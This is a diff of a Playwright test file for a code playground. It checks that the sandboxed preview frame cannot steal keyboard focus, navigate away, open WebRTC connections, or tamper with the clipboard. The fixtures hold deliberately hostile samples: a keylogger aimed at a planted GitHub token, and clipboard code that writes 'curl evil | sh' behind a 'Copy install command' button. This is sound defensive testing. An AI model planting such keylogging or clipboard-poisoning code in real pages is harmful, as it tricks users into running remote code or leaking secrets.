@@ -1,14 +1,17 @@
-import type {Locator, Page} from '@playwright/test';
+import type {Locator} from '@playwright/test';
+import {expect, axeViolations, inPreview, previewFrame, scaled, startInColorMode} from './fixtures';
 import {
-  expect,
-  axeViolations,
-  editorStatus,
-  firstCompile,
-  hashOf,
-  previewFrame,
-  replaceCode,
-  startInColorMode,
-} from './fixtures';
+  autoRunOff,
+  codeEditor,
+  consolePanel,
+  expectNothingReached,
+  frames,
+  nativeMessages,
+  openLink,
+  status,
+  typeInEditor,
+  views,
+} from './preview-helpers';
 import {refusals, test} from './spy';
 
 // The six ways a shared link got out of the preview before (each test failed then):
@@ -19,33 +22,6 @@ import {refusals, test} from './spy';
 
 // The library's own errors are expected here too.
 test.use({allowedConsoleErrors: [...refusals, 'React Strict DOM:']});
-
-const views = ['web', 'native'] as const;
-type View = (typeof views)[number];
-
-/** Opens a playground link holding `code` in `view`, and waits until it has rendered. */
-async function openLink(page: Page, code: string, view: View = 'web'): Promise<void> {
-  await page.goto(
-    `playground/#${hashOf({'App.tsx': code})}${view === 'native' ? '&view=native' : ''}`,
-  );
-  await expect(editorStatus(page)).toHaveAttribute('data-live-editor', 'rendered', {
-    timeout: firstCompile,
-  });
-}
-
-/** The editor's status line: errors, warnings, and why a preview stopped. */
-const status = (page: Page) => page.locator('[data-live-editor]').getByRole('status');
-const consolePanel = (page: Page) => page.getByRole('log', {name: 'Console'});
-const nativeMessages = (page: Page) => page.getByRole('log', {name: 'Native messages'});
-const codeEditor = (page: Page) => page.getByRole('textbox', {name: /^Code of /});
-const frames = (page: Page) => page.locator('[data-preview-frames] iframe');
-
-/** Types at the end of the editor's text, key by key, as a reader does. */
-async function typeInEditor(page: Page, text: string): Promise<void> {
-  await codeEditor(page).click();
-  await page.keyboard.press('ControlOrMeta+End');
-  await page.keyboard.type(text, {delay: 20});
-}
 
 test.describe('1. the keyboard focus', () => {
   const secret = 'const myToken = "ghp_reader_secret";';
@@ -75,44 +51,50 @@ export default function Trap() {
       await expect(codeEditor(page)).toContainText(secret);
       await expect(status(page)).toContainText('tried to take the keyboard focus');
       // Still running, still trying, and still refused.
-      await expect(previewFrame(page).getByRole('textbox', {name: 'Trap'})).toHaveValue('');
-      expect(spy.arrived).toEqual([]);
+      await inPreview(
+        (timeout) =>
+          expect(previewFrame(page).getByRole('textbox', {name: 'Trap'})).toHaveValue('', {
+            timeout,
+          }),
+        scaled(5_000),
+      );
+      expectNothingReached(spy, 'the keylogger');
     });
   }
 
-  test('a way in the frame does not refuse (a label’s click) is undone by the page', async ({
+  test('a label’s click, a popover’s button and reportValidity, made by code, take no focus', async ({
     page,
   }) => {
-    // Not waiting for the first render: the frame may be gone before it is reported.
-    await page.goto(
-      `playground/#${hashOf({
-        'App.tsx': `import {html} from 'react-strict-dom';
+    await openLink(
+      page,
+      `import {html} from 'react-strict-dom';
 
-setInterval(() => document.getElementById('name')?.click(), 50);
+setInterval(() => {
+  document.getElementById('name')?.click();
+  document.getElementById('open')?.click();
+  (document.getElementById('needed') as HTMLInputElement | null)?.reportValidity();
+}, 50);
 
 export default function Form() {
   return (
     <html.div>
       <html.label id="name" for="field">Name</html.label>
       <html.input id="field" />
+      <html.button id="open" popovertarget="pop">Open</html.button>
+      <html.div id="pop" popover="auto"><html.input autoFocus /></html.div>
+      <html.input id="needed" required />
     </html.div>
   );
 }
 `,
-      })}`,
     );
-    // The page gives the focus back at each take and removes the frame at the third.
-    await expect(status(page)).toContainText('kept trying to take the keyboard focus', {
-      timeout: firstCompile,
-    });
-    // Auto-run off: an edit would run the code again, and under load a keystroke typed
-    // between the next take and its undoing reaches the new frame (which has no way out).
-    const autoRun = page.getByRole('button', {name: 'Auto-run'});
-    await autoRun.click();
-    await expect(autoRun).toHaveAttribute('aria-pressed', 'false');
+    // The frame refuses each and says so; the page has nothing to undo.
+    await expect(status(page)).toContainText('tried to take the keyboard focus');
+    await autoRunOff(page);
     await typeInEditor(page, '\n// mine');
     await expect(codeEditor(page)).toContainText('// mine');
-    await expect(frames(page)).toHaveCount(0);
+    await expect(frames(page)).toHaveCount(1);
+    await expect(previewFrame(page).locator('#field')).toHaveValue('');
   });
 
   const echo = `import {useState} from 'react';
@@ -134,7 +116,11 @@ export default function Echo() {
   }) => {
     await openLink(page, echo);
     const frame = previewFrame(page);
-    await frame.getByRole('textbox', {name: 'Your text'}).click();
+    const field = frame.getByRole('textbox', {name: 'Your text'});
+    await field.click();
+    // A press soon after the page's own last input: the page asks the preview's shell,
+    // holds the keyboard meanwhile, and gives it to the field once the shell confirms it.
+    await expect(field).toBeFocused();
     await page.keyboard.type('clicked', {delay: 20});
     await expect(frame.getByText('You typed: clicked')).toBeVisible();
 
@@ -149,52 +135,8 @@ export default function Echo() {
   });
 });
 
-test.describe('2. the frame navigating itself', () => {
-  /** Each way a frame can send itself elsewhere; each runs half a second after its run renders. */
-  const ways = (origin: string): Record<string, string> => ({
-    'location.href': `location.href = '${origin}/href';`,
-    'location.replace': `location.replace('${origin}/replace');`,
-    'a meta refresh': `document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=${origin}/meta'}));`,
-    'a written meta refresh': `document.open(); document.write('<meta http-equiv="refresh" content="0;url=${origin}/written">'); document.close();`,
-    'a page that never ends loading': `location.href = '${origin}/never-ends';`,
-    'a click on a download link': `const link = Object.assign(document.createElement('a'), {href: '${origin}/download', download: 'x.txt'}); document.body.append(link); link.click();`,
-  });
-
-  for (const view of views) {
-    test(`no way sends a request; each frame is dropped as having left its page (${view})`, async ({
-      page,
-      spy,
-    }) => {
-      test.setTimeout(120_000);
-      await openLink(page, `export default function Start() {\n  return null;\n}\n`, view);
-      for (const [way, script] of Object.entries(ways(spy.origin))) {
-        await replaceCode(
-          page,
-          page,
-          `import {useEffect} from 'react';
-import {html} from 'react-strict-dom';
-
-export default function Away() {
-  useEffect(() => {
-    console.log('on screen: ${way}');
-    const timer = setTimeout(() => {
-      ${script}
-    }, 500);
-    return () => clearTimeout(timer);
-  }, []);
-  return <html.p>${way}</html.p>;
-}
-`,
-        );
-        // Logged after this run rendered, so the last run's message has left the status.
-        await expect(consolePanel(page), way).toContainText(`on screen: ${way}`);
-        await expect(status(page), way).toContainText('left its page');
-        await expect(frames(page), way).toHaveCount(0);
-        expect(spy.arrived, way).toEqual([]);
-      }
-    });
-  }
-});
+// 2. The frame navigating itself: the ways, and the preconnect residual the browser still
+// makes, are in preview-attacks.spec.ts (cause 2), against a spy that counts connections.
 
 test.describe('3. WebRTC', () => {
   /** Tries every way to a peer connection, then says what it found a second later. */
@@ -232,7 +174,7 @@ export default function Peer() {
     test(`no constructor is left, and no packet leaves (${view})`, async ({page, spy}) => {
       await openLink(page, rtc({udp: spy.udpPort, tcp: spy.tcpPort}), view);
       await expect(consolePanel(page)).toContainText('RTC found: nothing');
-      expect(spy.arrived).toEqual([]);
+      expectNothingReached(spy, 'WebRTC');
     });
   }
 });
@@ -260,6 +202,12 @@ export default function Copy() {
         onClick={() => {
           document.execCommand('copy');
           document.execCommand('cut');
+          // CN1, CN2 of #47: the Clipboard API inside the click, and copy events made by code.
+          navigator.clipboard.writeText('curl evil | sh').catch(() => undefined);
+          const data = new DataTransfer();
+          data.setData('text/plain', 'curl evil | sh');
+          document.dispatchEvent(new ClipboardEvent('copy', {clipboardData: data}));
+          document.dispatchEvent(new ClipboardEvent('paste', {clipboardData: data}));
           console.log('tried');
         }}>
         Copy install command
